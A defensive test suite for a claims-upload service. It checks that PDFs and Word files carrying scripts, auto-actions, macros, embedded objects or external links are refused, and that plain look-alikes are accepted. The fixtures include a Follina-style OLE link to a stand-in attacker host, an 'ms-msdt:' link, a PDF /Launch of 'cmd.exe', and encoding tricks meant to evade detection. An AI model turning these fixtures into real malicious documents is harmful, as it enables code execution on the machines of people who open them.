/**
 * Documents that could act on their own once staff open them are refused, each tested with a real file of its kind
 * built here: through a claim's multipart body (the plain form's way) and as an upload (the enhanced form's), naming
 * the file and saying what to send instead. Their plain kin are accepted and kept as they came.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { after, describe, it } from "node:test";
import { newIdempotencyKey } from "../../form-contract/shared/idempotency";
import {
  compoundFileBytes,
  filesUnder,
  jpegBytes,
  multipart,
  startService,
  storedSubmissions,
  validClaimFields,
} from "./helpers";
import { attachedFile, linkAnnotation, onePage, onePageWith, pdfFile, scriptAction, webPageAction } from "./pdf-files";
import { listening, tusClient } from "./tus-requests";
import {
  docxFile,
  documentRelationships,
  oleObjectBytes,
  plainSettings,
  relationshipsPart,
  settingsWithTemplate,
  TYPES,
} from "./word-files";

const PLAIN_COPY = "Send a plain copy instead: a scan, or a PDF printed from the document.";
const PDF_ACTIVE = `this PDF contains scripts, actions that run on their own or attached files, which we cannot accept. ${PLAIN_COPY}`;
const PDF_UNCHECKED = `this PDF could not be checked for scripts and attached files (it may be protected or damaged), so we cannot accept it. ${PLAIN_COPY}`;
const WORD_LINKS = `this Word document links to other files or holds embedded objects, which we cannot accept. ${PLAIN_COPY}`;
const PROGRAM = `this Word document contains macros or a program, which we cannot accept. ${PLAIN_COPY}`;
const UNREADABLE_PHOTO =
  "this image cannot be opened: it may be damaged or cut short. Choose the photo again, or send a scan of it.";

/** A .docx whose document.xml.rels holds Follina's relationship: an OLE object fetched from a web page. */
const follina = { type: `${TYPES}/oleObject`, target: "http://attacker.example/payload.html!", external: true };
const externalTemplate = relationshipsPart("word/_rels/settings.xml.rels", [
  { type: `${TYPES}/attachedTemplate`, target: "https://templates.example/Normal.dotm", external: true },
]);

const refused: [string, string, () => Promise<Buffer> | Buffer, string][] = [
  [
    "a PDF with /OpenAction, /JavaScript and an attached file, in object streams",
    "report.pdf",
    () =>
      pdfFile([...onePage("/OpenAction 7 0 R /Names << /EmbeddedFiles 4 0 R >>"), ...attachedFile, scriptAction], {
        objectStreams: true,
      }),
    PDF_ACTIVE,
  ],
  [
    "a PDF with a document-level script (/JavaScript)",
    "report.pdf",
    () => pdfFile([...onePage("/Names << /JavaScript 4 0 R >>"), "<< /Names [(init) 5 0 R] >>", scriptAction]),
    PDF_ACTIVE,
  ],
  [
    "a PDF with a script in a rendition action (/JS)",
    "report.pdf",
    () => pdfFile(onePageWith(linkAnnotation("<< /S /Rendition /OP 0 /JS (this.print\\(\\)) >>"))),
    PDF_ACTIVE,
  ],
  [
    "a PDF that opens a web page when opened (/OpenAction)",
    "report.pdf",
    () => pdfFile(onePage(`/OpenAction ${webPageAction}`)),
    PDF_ACTIVE,
  ],
  [
    "a PDF with a page's own action (/AA)",
    "report.pdf",
    () => pdfFile(onePage("", `/AA << /O ${webPageAction} >>`)),
    PDF_ACTIVE,
  ],
  [
    "a PDF whose link starts a program (/Launch)",
    "report.pdf",
    () => pdfFile(onePageWith(linkAnnotation("<< /S /Launch /F (cmd.exe) >>"))),
    PDF_ACTIVE,
  ],
  [
    "a PDF with an attached file (/EmbeddedFile)",
    "report.pdf",
    () => pdfFile([...onePage("/Names << /EmbeddedFiles 4 0 R >>"), ...attachedFile]),
    PDF_ACTIVE,
  ],
  [
    "a PDF with Flash (/RichMedia)",
    "report.pdf",
    () => pdfFile(onePageWith("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] >>"), { objectStreams: true }),
    PDF_ACTIVE,
  ],
  [
    "a PDF whose object stream is in a filter the check does not read",
    "report.pdf",
    () =>
      pdfFile([
        ...onePage(),
        { dictionary: "<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>", data: Buffer.from([0x80, 0x0b, 0x60]) },
      ]),
    PDF_UNCHECKED,
  ],
  [
    "a .docx with an external template, Follina's OLE link and an embedded OLE object",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships(follina, { type: `${TYPES}/oleObject`, target: "embeddings/oleObject1.bin" }),
        settingsWithTemplate,
        externalTemplate,
        { name: "word/embeddings/oleObject1.bin", data: oleObjectBytes },
      ),
    WORD_LINKS,
  ],
  [
    "a .docx attaching a template from a web address",
    "statement.docx",
    () => docxFile(documentRelationships(), settingsWithTemplate, externalTemplate),
    WORD_LINKS,
  ],
  [
    "a .docx attaching a template inside it",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships(),
        settingsWithTemplate,
        relationshipsPart("word/_rels/settings.xml.rels", [
          { type: `${TYPES}/attachedTemplate`, target: "template.dotm" },
        ]),
      ),
    WORD_LINKS,
  ],
  [
    "a .docx with Follina's OLE object link (TargetMode External)",
    "statement.docx",
    () => docxFile(documentRelationships(follina), plainSettings),
    WORD_LINKS,
  ],
  [
    "a .docx with a picture fetched from a web address",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships({ type: `${TYPES}/image`, target: "https://tracker.example/pixel.png", external: true }),
        plainSettings,
      ),
    WORD_LINKS,
  ],
  [
    "a .docx whose TargetMode is written with a character reference (&#69;xternal)",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships({
          type: `${TYPES}/image`,
          target: "https://tracker.example/pixel.png",
          external: "&#69;xternal",
        }),
        plainSettings,
      ),
    WORD_LINKS,
  ],
  [
    "a .docx whose relationships are written in UTF-16",
    "statement.docx",
    () => {
      const part = documentRelationships(follina);
      const utf16 = Buffer.from(
        `\ufeff${String(part.data).replace('encoding="UTF-8"', 'encoding="UTF-16"')}`,
        "utf16le",
      );
      return docxFile({ name: part.name, data: utf16 }, plainSettings);
    },
    WORD_LINKS,
  ],
  [
    "a .docx with a link that starts a program (ms-msdt:)",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships({ type: `${TYPES}/hyperlink`, target: "ms-msdt:/id PCWDiagnostic", external: true }),
        plainSettings,
      ),
    WORD_LINKS,
  ],
  [
    "a .docx with an embedded OLE object (word/embeddings/)",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships({ type: `${TYPES}/oleObject`, target: "embeddings/oleObject1.bin" }),
        plainSettings,
        { name: "word/embeddings/oleObject1.bin", data: oleObjectBytes },
      ),
    WORD_LINKS,
  ],
  [
    "a .docx with an embedded OLE object kept under another name",
    "statement.docx",
    () =>
      docxFile(documentRelationships({ type: `${TYPES}/oleObject`, target: "media/image9.bin" }), plainSettings, {
        name: "word/media/image9.bin",
        data: oleObjectBytes,
      }),
    WORD_LINKS,
  ],
  [
    "a .docx with an ActiveX control (word/activeX/)",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships({ type: `${TYPES}/control`, target: "activeX/activeX1.xml" }),
        plainSettings,
        { name: "word/activeX/activeX1.xml", data: '<ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>' },
        { name: "word/activeX/activeX1.bin", data: oleObjectBytes },
      ),
    WORD_LINKS,
  ],
  [
    "a .docx with macros (word/vbaProject.bin)",
    "statement.docx",
    () =>
      docxFile(
        relationshipsPart("word/_rels/document.xml.rels", [
          { type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "vbaProject.bin" },
        ]),
        { name: "word/vbaProject.bin", data: oleObjectBytes },
      ),
    PROGRAM,
  ],
  [
    "a .docx with macros kept under another name",
    "statement.docx",
    () =>
      docxFile(
        relationshipsPart("word/_rels/document.xml.rels", [
          { type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "media/notes.bin" },
        ]),
        { name: "word/media/notes.bin", data: oleObjectBytes },
      ),
    PROGRAM,
  ],
  [
    "a .doc with an embedded OLE object (an ObjectPool storage holding it)",
    "letter.doc",
    () =>
      compoundFileBytes([
        { name: "WordDocument" },
        { name: "1Table" },
        {
          name: "ObjectPool",
          children: [{ name: "_1700000000", children: [{ name: "\u0001Ole" }, { name: "\u0001CompObj" }] }],
        },
      ]),
    WORD_LINKS,
  ],
  [
    "a .doc with a Macros storage",
    "letter.doc",
    () =>
      compoundFileBytes([
        { name: "WordDocument" },
        { name: "1Table" },
        { name: "Macros", children: [{ name: "VBA", children: [{ name: "dir" }] }, { name: "PROJECT" }] },
      ]),
    PROGRAM,
  ],
  [
    "a JPEG that does not decode (its first bytes, then noise)",
    "IMG_0007.jpg",
    () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(4096, 0x5a)]),
    UNREADABLE_PHOTO,
  ],
  [
    "a JPEG cut short",
    "IMG_0008.jpg",
    async () => {
      const photo = await jpegBytes();
      return photo.subarray(0, photo.length - 20);
    },
    UNREADABLE_PHOTO,
  ],
];

const accepted: [string, string, () => Buffer][] = [
  [
    "a PDF that opens at its first page (/OpenAction [3 0 R /Fit])",
    "report.pdf",
    () => pdfFile(onePage("/OpenAction [3 0 R /Fit]"), { objectStreams: true }),
  ],
  [
    "a .docx linking to a web page and an e-mail address",
    "statement.docx",
    () =>
      docxFile(
        documentRelationships(
          { type: `${TYPES}/hyperlink`, target: "https://www.cowryshield.com.ng/claims/", external: true },
          { type: `${TYPES}/hyperlink`, target: "mailto:claims@cowryshield.com.ng", external: true },
          { type: `${TYPES}/styles`, target: "styles.xml" },
        ),
        plainSettings,
        {
          name: "word/styles.xml",
          data: '<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        },
      ),
  ],
  [
    "a .doc with the empty ObjectPool storage Word writes",
    "letter.doc",
    () => compoundFileBytes([{ name: "WordDocument" }, { name: "1Table" }, { name: "ObjectPool", children: [] }]),
  ],
];

describe("Documents that act on their own", async () => {
  const { app, dataDir } = await startService({ RATE_LIMIT_MAX: "1000", UPLOAD_RATE_LIMIT_MAX: "1000" });
  after(() => app.close());
  const client = tusClient(await listening(app));
  const send = async (name: string, bytes: Buffer) =>
    app.inject({ method: "POST", url: "/api/claims", ...(await multipart(validClaimFields, [{ name, bytes }])) });

  for (const [what, name, bytes, message] of refused) {
    it(`refuses ${what} in a claim, naming it and saying what to send instead; nothing kept`, async () => {
      const before = storedSubmissions(dataDir).length;
      const response = await send(name, await bytes());
      assert.equal(response.statusCode, 400);
      assert.deepEqual(response.json(), { error: "invalid", fields: { documents: `${name}: ${message}` } });
      assert.equal(storedSubmissions(dataDir).length, before);
      assert.deepEqual(filesUnder(path.join(dataDir, "incoming")), []);
    });

    it(`refuses ${what} as an upload, on its last byte, and deletes it`, async () => {
      const document = { name, bytes: await bytes(), type: "" };
      const created = await client.create(document, newIdempotencyKey());
      assert.equal(created.status, 201);
      const last = await client.patch(created.headers.get("location")!, 0, document.bytes);
      assert.equal(last.status, 400);
      assert.deepEqual(await last.json(), { error: "invalid", fields: { documents: `${name}: ${message}` } });
      assert.equal((await client.head(created.headers.get("location")!)).status, 404);
    });
  }

  for (const [what, name, bytes] of accepted) {
    it(`accepts ${what}, kept as it came`, async () => {
      const content = bytes();
      const response = await send(name, content);
      assert.equal(response.statusCode, 201, response.body);
      const { reference } = response.json<{ reference: string }>();
      const [document] = storedSubmissions(dataDir).find((submission) => submission.reference === reference)!.documents;
      assert.ok(fs.readFileSync(path.join(dataDir, "documents", document!.storedPath)).equals(content));
    });
  }
});
